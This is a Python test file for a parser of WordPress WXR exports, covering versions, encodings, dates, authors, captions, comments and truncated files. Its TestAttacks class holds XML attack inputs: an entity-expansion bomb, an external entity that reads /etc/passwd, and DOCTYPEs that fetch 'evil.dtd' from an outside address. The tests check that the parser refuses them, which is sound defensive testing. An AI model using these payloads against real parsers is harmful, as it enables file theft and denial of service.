"""Exports of WordPress: every version's, and what else is in them."""

import io
from collections import Counter
from datetime import UTC, datetime

import pytest

from articles.captures import Status, elements, posts, wxr
from articles.captures.wxr import NotAnExport, NotXml
from config.errors import Refusal
from tests.articles.exports import BOMB, PRIVATE_MAIL, author, category, comment, export, meta, post


def entries(text, left_out=None):
    data = text if isinstance(text, bytes) else text.encode()
    return list(wxr.entries(io.BytesIO(data), Counter() if left_out is None else left_out))


def page(*args, channel="", **said):
    (entry,) = entries(export(post(**said), *args, channel=channel))
    if entry.error:
        raise entry.error
    return entry.page


class TestForms:
    @pytest.mark.parametrize("scheme", ["http", "https"])
    @pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
    def test_each_version_is_read(self, version, scheme):
        said = post(title="A Bridge", categories=category("Rivers"), excerpt="" if version == "1.0" else "In short.")
        (entry,) = entries(export(said, version=version, scheme=scheme, channel=author("ann", "Ann Lee")))
        read = entry.page
        assert (read.title, read.author_name, read.keywords) == ("A Bridge", "Ann Lee", ("Rivers",))
        assert read.dek == ("" if version == "1.0" else "In short.")
        assert (read.body_markdown, read.language, read.status) == (
            "The bridge was closed on Monday.",
            "en",
            Status.PUBLISHED,
        )

    def test_version_1_0_says_categories_twice_and_tags_by_another_name(self):
        said = category("Rivers", "") + category("Rivers") + category("rust", "tag") + category("Uncategorized", "")
        assert page(categories=said).keywords == ("Rivers", "rust")

    def test_an_export_of_wordpress_com_with_its_own_elements_is_read(self):
        channel = (
            '<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="search" href="https://courier.example/o.xml"/>'
            "<image><url>https://s0.example/i.png</url><title>Courier</title><link>https://elsewhere.example</link></image>"
            + author("annlee77", "Ann Lee")
            + "<generator>http://wordpress.com/</generator>"
        )
        said = post(
            author="annlee77",
            meta=meta("_publicize_job_id", 7) + meta("geo_public", 0),
            body='<!-- wp:paragraph -->\n<p>First.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:image {"id":5} -->\n'
            '<figure class="wp-block-image"><img src="x.jpg"/><figcaption>Boats.</figcaption></figure>\n<!-- /wp:image -->',
        )
        (entry,) = entries(export(said, channel=channel))
        assert entry.page.author_name == "Ann Lee"
        assert entry.page.body_markdown == "First.\n\nBoats."

    def test_utf16_and_latin_1_are_read_as_they_say(self):
        text = export(post(title="Zürich wählt"))
        for name in ("utf-16", "iso-8859-1"):
            data = text.replace("UTF-8", name).encode(name)
            assert [entry.name for entry in entries(data)] == ["Zürich wählt"]

    def test_what_databases_leave_behind_is_taken_out_or_marked(self):
        data = export(post(title="A\x08 \x0bBridge"), post(title="Caf@ bar")).encode().replace(b"@", b"\xe9")
        assert [entry.name for entry in entries(data)] == ["A Bridge", "Caf\ufffd bar"]

    def test_a_name_of_htmls_that_xml_has_not_is_understood(self):
        text = export(post(title="T")).replace("<title>T</title>", "<title>Caf&eacute;&nbsp;bar</title>")
        assert entries(text)[0].page.title == "Café bar"


class TestAPost:
    def test_its_source_is_its_guid_else_its_link(self):
        assert entries(export(post(guid="https://courier.example/?p=7")))[0].source == "https://courier.example/?p=7"
        assert entries(export(post(guid="", link="https://courier.example/7")))[0].source == "https://courier.example/7"

    @pytest.mark.parametrize(
        ("status", "password", "wanted"),
        [
            ("publish", "", Status.PUBLISHED),
            ("draft", "", Status.DRAFT),
            ("pending", "", Status.DRAFT),
            ("private", "", Status.DRAFT),
            ("future", "", Status.DRAFT),
            ("publish", "secret", Status.DRAFT),
        ],
    )
    def test_what_only_some_could_read_is_a_draft(self, status, password, wanted):
        assert page(status=status, password=password).status == wanted

    def test_what_is_no_post_is_counted_by_kind(self):
        left_out = Counter()
        items = [post(kind=kind) for kind in ("page", "page", "attachment", "nav_menu_item", "wp_block")]
        items += [post(status=status) for status in ("trash", "auto-draft", "inherit")]
        assert entries(export(*items), left_out) == []
        assert left_out == {
            "page": 2,
            "attachment": 1,
            "nav_menu_item": 1,
            "wp_block": 1,
            "trash": 1,
            "auto-draft": 1,
            "inherit": 1,
        }

    @pytest.mark.parametrize(
        ("said", "wanted"),
        [
            ({}, datetime(2024, 5, 3, 10, tzinfo=UTC)),
            ({"gmt": ""}, datetime(2024, 5, 3, 10, tzinfo=UTC)),
            ({"gmt": "0000-00-00 00:00:00"}, datetime(2024, 5, 3, 10, tzinfo=UTC)),
            ({"gmt": "", "published": "Fri, 03 May 2024 17:00:00 +0700"}, datetime(2024, 5, 3, 10, tzinfo=UTC)),
            ({"gmt": "", "published": ""}, datetime(2024, 5, 3, 12, tzinfo=UTC)),
            ({"gmt": "", "published": "Mon, 30 Nov -0001 00:00:00 +0000", "date": "0000-00-00 00:00:00"}, None),
            ({"gmt": "tomorrow", "published": "soon"}, datetime(2024, 5, 3, 12, tzinfo=UTC)),
        ],
    )
    def test_its_time_is_the_best_that_it_says(self, said, wanted):
        assert page(**said).published_at == wanted

    def test_a_date_that_is_none_refuses_the_post_alone(self):
        broken = post(title="Broken", gmt="2024-13-45 10:00:00", published="soon", date="never")
        first, second = entries(export(broken, post(title="Good")))
        assert isinstance(first.error, posts.DateBroken)
        assert "2024-13-45" in first.error.detail
        assert second.page.title == "Good"

    def test_its_slug_is_the_one_that_it_had(self):
        assert page(slug="a-bridge-closes").slug == "a-bridge-closes"
        assert page(slug="%e6%a1%a5").slug == "桥"

    def test_its_author_has_the_name_that_is_shown(self):
        names = author("ann", "", "Ann", "Lee", "Ann writes about <em>rivers</em>.") + author("bo", "Bo Kim")
        read = page(channel=names, author="Ann")
        assert (read.author_name, read.biography) == ("Ann Lee", "Ann writes about rivers.")
        assert page(channel=names, author="bo").author_name == "Bo Kim"
        assert page(author="Nobody Listed").author_name == "Nobody Listed"

    def test_only_its_categories_and_tags_are_its_keywords(self):
        said = [
            category("Ships &amp; boats"),
            category("rust", "post_tag"),
            category("Rust", "post_tag"),
            category("x", "nav_menu"),
        ]
        said += [
            category("Chung", "category", "uncategorized"),
            category("Chưa phân loại"),
            category("aside", "post_format"),
        ]
        assert page(categories="".join(said)).keywords == ("Ships & boats", "rust")

    def test_a_title_is_text_and_one_without_is_refused(self):
        assert page(title="A <em>bridge</em> &amp; a &#8220;ford&#8221;").title == "A bridge & a “ford”"
        (entry,) = entries(export(post(title=" ")))
        assert isinstance(entry.error, posts.TitleMissing)

    def test_one_that_is_too_large_is_refused_alone_however_large(self, monkeypatch):
        monkeypatch.setattr(elements, "MOST_CHARACTERS", 3_000_000)
        said = [
            post(title="Long", body="x" * 1_000_001),
            post(title="Endless", body="y" * 9_000_000),
            post(title="Good"),
        ]
        found = entries(export(*said))
        assert [(entry.name, type(entry.error)) for entry in found] == [
            ("Long", posts.PostTooLarge),
            ("Endless", posts.PostTooLarge),
            ("Good", type(None)),
        ]

    def test_markup_without_end_refuses_the_post_alone(self):
        found = entries(export(post(body="<blockquote>" * 3_000 + "x"), post(title="Good")))
        assert isinstance(found[0].error, Refusal)
        assert found[1].page


class TestPictures:
    def test_the_caption_before_any_text_is_the_leads(self):
        picture = '[caption id="attachment_7"]<img src="b.jpg" /> The bridge. (Photo: Courier/Bo Kim)[/caption]'
        read = page(body=f"{picture}\n\nIt closed.")
        assert (read.lead_caption, read.lead_credit) == ("The bridge.", "Courier/Bo Kim")
        assert read.body_markdown == "It closed."

    def test_one_after_text_stays_where_it_stands(self):
        read = page(body='It closed.\n\n[caption width="300"]<img src="b.jpg" /> The bridge.[/caption]\n\nIt opened.')
        assert (read.lead_caption, read.body_markdown) == ("", "It closed.\n\nThe bridge.\n\nIt opened.")

    def test_captions_of_attachments_are_used_where_the_post_refers_to_them_wherever_they_stand(self):
        attachment = post(number=70, kind="attachment", status="inherit", excerpt="The old bridge.")
        assert page(attachment, meta=meta("_thumbnail_id", 70)).lead_caption == "The old bridge."
        read = page(attachment, body='Text.\n\n[gallery ids="70,71"]\n\nMore.')
        assert read.body_markdown == "Text.\n\nThe old bridge.\n\nMore."
        assert page(attachment).lead_caption == ""


class TestComments:
    def test_threads_are_kept_one_level_deep(self):
        said = [comment(4, "Late."), comment(1, "First."), comment(2, "Why?", parent=1), comment(3, "So.", parent=2)]
        read = page(comments="".join(said))
        assert [(each.body, each.parent) for each in read.comments] == [
            ("First.", None),
            ("Why?", 0),
            ("So.", 0),
            ("Late.", None),
        ]

    def test_what_was_not_approved_or_came_from_a_site_is_left_out_and_its_answers_stand_alone(self):
        said = [
            comment(1, "Buy!", approved="spam"),
            comment(2, "Wait.", approved="0"),
            comment(3, "Seen.", kind="pingback"),
            comment(4, "Seen.", kind="trackback"),
            comment(5, "No, thanks.", parent=1),
            comment(6, "Hm.", kind="comment"),
            comment(7, "Myself.", parent=7),
        ]
        read = page(comments="".join(said))
        assert [(each.body, each.parent) for each in read.comments] == [
            ("No, thanks.", None),
            ("Hm.", None),
            ("Myself.", None),
        ]

    def test_only_the_name_is_known_of_who_wrote_it(self):
        read = page(
            comments=comment(
                1, "One <b>bold</b> &amp; <a href='https://x.example'>linked</a> word.<br/>Two.", author="Bo &amp; co"
            )
        )
        (said,) = read.comments
        assert (said.name, said.body) == ("Bo & co", "One bold & linked word.\nTwo.")
        assert said.written_at == datetime(2024, 5, 4, 8, tzinfo=UTC)
        assert PRIVATE_MAIL not in repr(read)
        assert "203.0.113" not in repr(read)


class TestWhatIsNotWhole:
    def test_a_file_that_breaks_off_gives_what_came_before_and_says_where(self):
        text = export(post(title="One"), post(title="Two"), post(title="Three"))
        cut = text[: text.index("Three") + 300]
        found = wxr.entries(io.BytesIO(cut.encode()), Counter())
        assert [next(found).name, next(found).name] == ["One", "Two"]
        with pytest.raises(elements.BreaksOff) as refused:
            next(found)
        assert refused.value.figures["line"] == cut.count("\n") + 1
        assert str(cut.count("\n") + 1) in refused.value.detail

    @pytest.mark.parametrize("place", range(1, 3_000, 97))
    def test_wherever_it_is_cut_no_half_of_a_post_comes_in(self, place):
        text = export(post(title="One"), post(title="Two"))
        data = text.encode()[: len(text) - 1 - place]
        names = []
        with pytest.raises((elements.BreaksOff, NotXml)):
            for entry in wxr.entries(io.BytesIO(data), Counter()):
                names.append(entry.name)
        assert names == [
            name for name in ("One", "Two") if f"{name}</title>" in data.decode() and _is_whole(data, name)
        ]


def _is_whole(data, name):
    return "</item>" in data.decode().split(f"{name}</title>")[1].split("<title>")[0]


class TestAttacks:
    @pytest.mark.parametrize(
        "attack",
        [
            BOMB,
            BOMB.replace('"ha"', 'SYSTEM "file:///etc/passwd"'),
            '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://203.0.113.7/evil.dtd"><rss><channel/></rss>',
            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://203.0.113.7/evil.dtd"> %p;]><rss/>',
            '<!DOCTYPE rss [<!ATTLIST item title CDATA "x">]><rss/>',
        ],
    )
    @pytest.mark.parametrize("name", ["utf-8", "utf-16"])
    def test_a_document_type_is_refused_before_anything_is_read(self, attack, name):
        with pytest.raises(elements.DocumentTypeForbidden):
            entries(attack.encode(name))

    def test_a_bomb_of_nesting_or_of_attributes_is_no_bomb(self):
        deep = export("<item>" + "<a>" * 10_000 + "</a>" * 10_000 + "</item>")
        with pytest.raises(elements.BreaksOff):
            entries(deep)
        wide = export("<item " + " ".join(f'a{n}="{n}"' for n in range(5_000)) + "><title>T</title></item>")
        assert entries(wide)[0].name == "T"

    @pytest.mark.parametrize(
        "text", ["", "no xml", "<rss><channel></channel></rss>", "<html><p>x</p></html>", "\x00\x01"]
    )
    def test_what_is_no_export_is_refused(self, text):
        with pytest.raises((NotAnExport, NotXml)):
            entries(text)
